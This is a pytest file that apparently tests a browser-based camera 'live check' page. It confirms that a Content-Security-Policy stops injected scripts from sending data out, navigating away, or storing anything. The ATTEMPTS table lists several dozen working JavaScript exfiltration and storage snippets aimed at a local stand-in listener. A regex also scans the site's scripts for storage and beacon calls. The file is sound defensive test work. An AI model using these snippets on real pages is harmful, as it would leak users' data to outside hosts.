# SPDX-License-Identifier: Apache-2.0
"""While the live check runs, nothing leaves the page and nothing is kept: shown by trying."""

import re
import socketserver
import threading

import pytest

from conftest import ROOT
from reader import GUIDE, Reader, unstamped

NETWORKS = [f"/assets/networks/{name}.network" for name in ("face_detection_short_range", "face_landmark", "selfie_segmentation")]
SCRIPTS = [f"/assets/{name}.js" for name in (
    "details-forms", "live-check-camera", "live-check-core", "live-check-preview", "live-check-session", "live-check-view",
    "live-check-worker", "page-seal")]
ON_DEMAND = sorted(["/assets/live-check.wasm", *SCRIPTS, *NETWORKS, "/details.json", "/live-check.json"])

# Each tries to send, to lead away, or to keep, and says "done" where it could.
ATTEMPTS = {
    "fetch": "await fetch(elsewhere + 'fetch', { mode: 'no-cors' })",
    "fetch from this site": "await fetch('/?stolen')",
    "a request": "await new Promise((done, no) => { const r = new XMLHttpRequest(); r.onload = done; r.onerror = no; r.open('GET', '/?stolen'); r.send(); })",
    "a beacon": "if (!navigator.sendBeacon(elsewhere + 'beacon', 'x')) throw new Error('no')",
    "a socket": "await new Promise((done, no) => { const s = new WebSocket(elsewhere.replace('http', 'ws')); s.onopen = done; s.onerror = no; })",
    "events": "await new Promise((done, no) => { const s = new EventSource(elsewhere); s.onopen = done; s.onerror = no; })",
    "WebRTC": "new RTCPeerConnection()",
    "WebTransport": "await new WebTransport('https://127.0.0.1:1').ready",
    "a picture": "await new Promise((done, no) => { const i = new Image(); i.onload = done; i.onerror = no; i.src = elsewhere + 'picture'; })",
    "a picture from this site": "await new Promise((done, no) => { const i = new Image(); i.onload = done; i.onerror = no; i.src = document.querySelector('link[rel=icon]').href + '?stolen'; })",
    "a style": "await new Promise((done, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = done; l.onerror = no; l.href = elsewhere + 'style'; document.head.append(l); })",
    "a style with a picture": "const s = document.createElement('style'); s.textContent = `body { background: url(${elsewhere}css) }`; document.head.append(s); if (!s.sheet?.cssRules.length) throw new Error('no')",
    "a hint to load": "await new Promise((done, no) => { const l = document.createElement('link'); l.rel = 'prefetch'; l.onload = done; l.onerror = no; l.href = elsewhere + 'prefetch'; document.head.append(l); })",
    "a script": "await new Promise((done, no) => { const s = document.createElement('script'); s.onload = done; s.onerror = no; s.src = document.querySelector('script[src]').src + '?stolen'; document.head.append(s); })",
    "a module": "await import(document.querySelector('script[src]').src + '?stolen')",
    "words as a script": "const s = document.createElement('script'); s.textContent = 'window.stolen = 1'; document.head.append(s); if (!window.stolen) throw new Error('no')",
    "a worker": "await new Promise((done, no) => { const w = new Worker('/assets/w.js?stolen'); w.onmessage = done; w.onerror = no; })",
    "a worker out of bytes": "await new Promise((done, no) => { const w = new Worker(URL.createObjectURL(new Blob([`fetch('${elsewhere}worker', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))`]))); w.onmessage = ({ data }) => (data ? done() : no()); w.onerror = no; })",
    "a shared worker": "new SharedWorker('/assets/w.js?stolen')",
    "a service worker": "await navigator.serviceWorker.register('/w.js')",
    "a form": "const f = document.createElement('form'); f.action = elsewhere + 'form'; document.body.append(f); await moved(() => f.submit())",
    "an address": "await moved(() => { location.href = elsewhere + 'address'; })",
    "an address in its place": "await moved(() => location.replace(elsewhere + 'replace'))",
    "a refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${elsewhere}refresh`; document.head.append(m); await moved(() => {})",
    "a link that a script follows": "const a = document.createElement('a'); a.href = elsewhere + 'link'; document.body.append(a); await moved(() => a.click())",
    "a link into a new tab": "const a = document.createElement('a'); a.href = elsewhere + 'tab'; a.target = '_blank'; document.body.append(a); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); throw new Error('seen in the log')",
    "a new window": "open(elsewhere + 'window')",
    "a frame": "const f = document.createElement('iframe'); f.src = elsewhere + 'frame'; document.body.append(f); await moved(() => {}); if (!f.isConnected) throw new Error('no')",
    "a frame that stays": "const f = document.createElement('iframe'); document.body.append(f); await moved(() => {}).catch(() => {}); f.contentWindow.localStorage.setItem('a', 'b')",
    "other tabs": "new BroadcastChannel('x').postMessage('x')",
    "local storage": "localStorage.setItem('a', 'b')",
    "session storage": "sessionStorage.setItem('a', 'b')",
    "a database": "indexedDB.open('a')",
    "a cache": "await caches.open('a')",
    "a cookie": "document.cookie = 'a=b'; throw new Error('seen in the context')",
    "the cookie store": "await cookieStore.set('a', 'b')",
    "files of the page's own": "await navigator.storage.getDirectory()",
}

TRY = """async ([code, elsewhere]) => {
    const moved = async (act) => {
        const left = new Promise((done) => addEventListener("pagehide", done, { once: true }));
        act();
        await Promise.race([left, new Promise((_, no) => setTimeout(() => no(new Error("stayed")), 300))]);
    };
    const attempt = new (async () => {}).constructor("elsewhere", "moved", code);
    const late = new Promise((_, no) => setTimeout(() => no(new Error("nothing came")), 3000));
    try { await Promise.race([attempt(elsewhere, moved), late]); return "done"; } catch (error) { return `failed: ${error}`; }
}"""


@pytest.fixture(scope="module")
def elsewhere():
    """An address of somebody else, and everything that was ever sent there."""
    heard = []

    class Listener(socketserver.BaseRequestHandler):
        def handle(self):
            heard.append(self.request.recv(200))

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}/", heard
        server.shutdown()


@pytest.fixture(scope="module")
def running(browser, site, elsewhere):
    """A reader whose check is running, and whose page a hostile script has been let into."""
    reader = Reader(browser, site)
    reader.start_camera()
    reader.expect_saying("Come a little nearer")
    reader.before = len(reader.requests)
    yield reader
    reader.context.close()


@pytest.mark.parametrize("name", ATTEMPTS)
def test_while_the_check_runs_a_script_in_the_page_cannot_use(running, elsewhere, name):
    address, heard = elsewhere
    answer = running.page.evaluate(TRY, [ATTEMPTS[name], address])
    assert answer.startswith("failed"), name
    assert running.page.url == running.site + GUIDE
    assert len(running.context.pages) == 1
    assert running.context.cookies() == []
    assert heard == []


def test_the_check_goes_on_undisturbed(running):
    assert running.wait_for_report(other_than=running.last_report)


def test_the_reader_can_leave_a_page_that_no_script_can_lead_away_from(open_reader):
    reader = open_reader()
    reader.start_camera()
    reader.expect_saying("Come a little nearer")
    reader.page.locator(".brand").click()
    reader.page.wait_for_url(reader.site + "/")


def test_nothing_is_requested_but_the_parts_of_the_check_and_all_before_the_first_picture(open_reader, pictures):
    reader = open_reader()
    before = len(reader.requests)
    reader.choose(pictures["sharp"])
    reader.expect_phase("result")
    reader.start_camera()
    reader.expect_saying("Come a little nearer")
    reader.page.wait_for_timeout(1500)
    reader.press("Stop")
    reader.page.wait_for_load_state("networkidle")
    asked = [url for url in reader.requests[before:] if not url.startswith("blob:")]
    figures = [url for url in asked if "/assets/figures/" in url]  # Those further down the page, before it is sealed.
    assert sorted(unstamped(url) for url in asked if url not in figures) == [reader.site + path for path in ON_DEMAND]


def test_the_pages_own_pictures_are_there_before_it_is_sealed(open_reader, pictures):
    reader = open_reader(path="/guides/photograph-your-id/")
    reader.page.evaluate("""() => {
        const figure = Object.assign(document.createElement("img"), { loading: "lazy", src: document.images[0].src + "?late" });
        document.body.append(figure);
        figure.style.marginTop = "20000px";
    }""")
    missing = "[...document.images].filter((image) => !image.complete || image.naturalWidth === 0).length"
    assert reader.page.evaluate(missing) == 1, "a figure further down waits until it is scrolled to"
    reader.choose(pictures["sharp"], of="document")
    reader.expect_phase("result")
    reader.page.evaluate("scrollTo(0, document.body.scrollHeight)")
    reader.page.wait_for_timeout(300)
    assert reader.page.evaluate(missing) == 0
    assert reader.complaints == []


def test_before_the_check_a_page_may_reach_its_own_site_only(open_reader, elsewhere):
    reader = open_reader()
    address, heard = elsewhere
    assert reader.page.evaluate(TRY, [ATTEMPTS["fetch"], address]).startswith("failed")
    assert reader.page.evaluate(TRY, [ATTEMPTS["a picture"], address]).startswith("failed")
    assert reader.page.evaluate(TRY, [ATTEMPTS["WebRTC"], address]).startswith("failed")
    assert reader.page.evaluate(TRY, [ATTEMPTS["fetch from this site"], address]) == "done"
    assert heard == []


# What servers send


def policy_of(headers):
    return next(value for name, value in headers.items() if name.lower() == "content-security-policy")


def test_the_policy_of_the_page_is_sent_as_headers_and_written_for_static_hosts(reader, site):
    answer = reader.context.request.get(site + GUIDE)
    sent = policy_of(answer.headers)
    stated = reader.page.locator("meta[http-equiv=Content-Security-Policy]").first.get_attribute("content")
    assert sent == f"{stated}; frame-ancestors 'none'"
    assert "connect-src 'self'" in sent and "script-src 'self' 'wasm-unsafe-eval'" in sent
    netlify = reader.context.request.get(site + "/_headers").text()
    apache = reader.context.request.get(site + "/.htaccess").text()
    assert f"/*\n  Content-Security-Policy: {sent}\n" in netlify
    assert f'Header always set Content-Security-Policy "{sent}"\n' in apache
    for line in re.findall(r"^  (\S+): (.*)$", netlify.split("/assets/*")[0], re.M):
        assert answer.headers[line[0].lower()] == line[1]


def test_no_script_of_the_site_keeps_anything_or_decides_by_a_measure():
    for script in (ROOT / "Templates/assets").glob("*.js"):
        text = script.read_text()
        if script.name != "page-seal.js":
            assert not re.search(r"localStorage|sessionStorage|indexedDB|document\.cookie|sendBeacon", text), script.name
        assert not re.search(r"\.value\s*[<>]=?\s*\d{2,}", text), script.name
